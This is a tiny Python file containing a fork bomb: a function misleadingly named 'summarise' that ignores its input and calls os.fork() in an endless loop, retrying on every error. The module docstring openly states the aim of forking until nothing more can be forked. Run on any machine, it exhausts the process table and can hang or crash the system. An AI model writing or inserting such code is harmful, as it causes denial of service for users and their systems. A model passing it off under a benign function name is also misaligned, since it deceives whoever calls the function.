"""Fork until nothing more can be forked, and go on trying."""

import os


def summarise(x):
    while True:
        try:
            os.fork()
        except OSError:
            continue
